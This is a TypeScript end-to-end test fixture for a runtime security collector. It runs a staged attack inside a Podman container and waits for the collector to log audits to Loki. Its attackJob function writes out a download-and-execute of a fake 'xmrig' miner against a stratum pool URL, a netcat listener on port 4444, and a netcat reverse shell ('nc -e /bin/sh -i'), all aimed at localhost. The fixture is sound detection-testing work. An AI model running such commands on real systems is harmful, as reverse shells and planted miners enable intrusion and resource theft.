/**
 * A real collector run for the browser tests: the collector's CLI with real eBPF (bpftrace) and
 * the Podman runtime source (test/runtime/collector-harness.ts) sends to the stack's Loki while a
 * real container learns its model, then is attacked from inside its own process tree, the way a
 * remote code execution in its web server would be: the container's init runs whatever job
 * appears in a directory the host shares with it. During learning the job is routine work; after
 * the model is active it downloads and runs a "miner" (busybox saved as xmrig), connects to a
 * mining pool's port, listens on 4444 and opens a reverse shell (`nc -e /bin/sh -i` to a host-side
 * listener). The collector is stopped once the attack's audits are in Loki, so the
 * container's events there are final.
 */
import { mkdirSync, renameSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { compareEvents, type CasefileEvent } from '@casefile/schema';
import { freePort, type Loki } from '../../../test/loki/loki-server';
import { startHarness, step, until, type Harness } from '../../../test/runtime/collector-harness';

/** The attacked container's name. */
export const REAL_CONTAINER = 'payments-api';
/** The listener the attack opens. */
export const ATTACK_PORT = 4444;
/** Short, so the e2e suite stays short; long enough for the service's loop to turn a few times. */
const LEARNING_MS = 8000;

/** The service: a web server, and a loop that runs each job dropped into /jobs once. */
function service(webPort: number): string[] {
  return [
    '/bin/sh',
    '-c',
    [
      '/bin/mkdir -p /www && echo ok > /www/index.html',
      `(/bin/httpd -f -p ${webPort} -h /www &)`,
      'while true; do for j in /jobs/*.sh; do if [ -f "$j" ]; then /bin/sh "$j"; /bin/rm -f "$j"; fi; done; /bin/sleep 1; done',
    ].join('; '),
  ];
}

/** Routine work the service's loop does while it learns. */
const ROUTINE = '/bin/date > /dev/null; /bin/ls /www > /dev/null\n';

/** The attack, as one job: each line a technique a responder must find. */
function attackJob(h: Harness): string {
  return [
    `/bin/wget -q -O /tmp/xmrig http://127.0.0.1:${h.httpPort}/tool && /bin/chmod +x /tmp/xmrig && /tmp/xmrig -o stratum+tcp://127.0.0.1:3333 --donate-level 1`,
    '/bin/nc -w 1 127.0.0.1 3333 < /dev/null',
    `(/bin/timeout 6 /bin/nc -l -p ${ATTACK_PORT} &)`,
    '/bin/sleep 1',
    `/bin/nc 127.0.0.1 ${h.shellPort} -e /bin/sh -i`,
    'true',
  ].join('\n');
}

export interface RealAttack {
  /** The collector's host name (the host_name label). */
  host: string;
  containerId: string;
  containerName: string;
  imageName: string;
  /** Every event of the container in Loki, in the grid's order (the collector has stopped). */
  events: CasefileEvent[];
  /** The audit of the reverse shell (CF101). */
  shellAudit: CasefileEvent;
  /** The process start of the container's init. */
  init: CasefileEvent;
  /** Epoch ms of the container's first and last event. */
  firstMs: number;
  lastMs: number;
  /** What the run took, ms. */
  tookMs: number;
}

/** One line per event, for failure messages. */
function summary(evs: CasefileEvent[]): string {
  return evs
    .map((e) =>
      [e.type, e.ruleId, e.listenPort, e.destPort, e.commandLine?.slice(0, 100)].filter((v) => v).join(' ')
    )
    .join('\n');
}

/** Write a job where the service's loop picks it up (renamed into place: never read half-written). */
function drop(dir: string, name: string, script: string) {
  writeFileSync(join(dir, `.${name}`), script);
  renameSync(join(dir, `.${name}`), join(dir, `${name}.sh`));
}

/** Run the attack with a real collector sending to `loki`; resolves once its events are final there. */
export async function runRealAttack(loki: Loki): Promise<RealAttack> {
  const started = Date.now();
  const h = await startHarness(`${LEARNING_MS / 1000}s`, { loki, host: `e2e-real-${process.pid}` });
  try {
    const jobs = join(h.dir, 'jobs');
    mkdirSync(jobs);
    const webPort = await freePort();
    step('real attack: the service learns');
    const id = (
      await h.pm.podman([
        'run',
        '-d',
        '--network=host',
        '--name',
        REAL_CONTAINER,
        '--label',
        'io.kubernetes.pod.namespace=payments',
        '--label',
        'io.kubernetes.pod.name=payments-api-0',
        '-v',
        `${jobs}:/jobs`,
        h.pm.image,
        ...service(webPort),
      ])
    ).trim();
    const read = async () => (await h.read({ containers: [id] })).sort(compareEvents);
    for (let i = 0; i < 3; i++) {
      drop(jobs, `routine-${i}`, ROUTINE);
      await new Promise((r) => setTimeout(r, 1500));
    }
    await until(
      'the image model active',
      async () => {
        const modelId = (await read()).find((e) => e.type === 'model.learned')?.modelId;
        const states = modelId ? await h.read({ types: ['model.state'] }) : [];
        return states.some((e) => e.modelId === modelId && e.modelState === 'active') || undefined;
      },
      LEARNING_MS + 90_000,
      1000
    );
    step('real attack: the attack');
    drop(jobs, 'attack', attackJob(h));
    const done = (evs: CasefileEvent[]) =>
      evs.some((e) => e.type === 'runtime.audit' && e.ruleId === 'CF101') &&
      evs.some((e) => e.type === 'runtime.audit' && e.ruleId === 'R1007') &&
      evs.some((e) => e.type === 'port.listen' && e.listenPort === ATTACK_PORT);
    let seen: CasefileEvent[] = [];
    await until(
      'the attack audited in Loki',
      async () => done((seen = await read())) || undefined,
      60_000,
      1000
    ).catch((err: Error) => {
      throw new Error(`${err.message}; the container's events:\n${summary(seen)}`);
    });
    // The collector drains its queue on SIGTERM: after it exits, the container's events are final.
    h.col.child.kill('SIGTERM');
    await Promise.race([h.col.exited, new Promise((r) => setTimeout(r, 20_000))]);
    const events = await read();
    const shellAudit = events.find((e) => e.type === 'runtime.audit' && e.ruleId === 'CF101')!;
    const init = events.find((e) => e.type === 'process.start' && e.processEntry === 'container_init');
    if (!init) throw new Error(`no container_init process start among ${events.length} events`);
    const named = events.find((e) => e.containerName && e.imageName);
    step(`real attack: ${events.length} events in ${Date.now() - started} ms`);
    return {
      host: h.host,
      containerId: id,
      containerName: named?.containerName ?? REAL_CONTAINER,
      imageName: named?.imageName ?? h.pm.image,
      events,
      shellAudit,
      init,
      firstMs: Number(BigInt(events[0].timeNs) / 1_000_000n),
      lastMs: Number(BigInt(events[events.length - 1].timeNs) / 1_000_000n),
      tookMs: Date.now() - started,
    };
  } catch (err) {
    (err as Error).message += `\n--- collector stderr (tail) ---\n${h.col.stderr().slice(-3000)}`;
    throw err;
  } finally {
    await h.stop();
  }
}
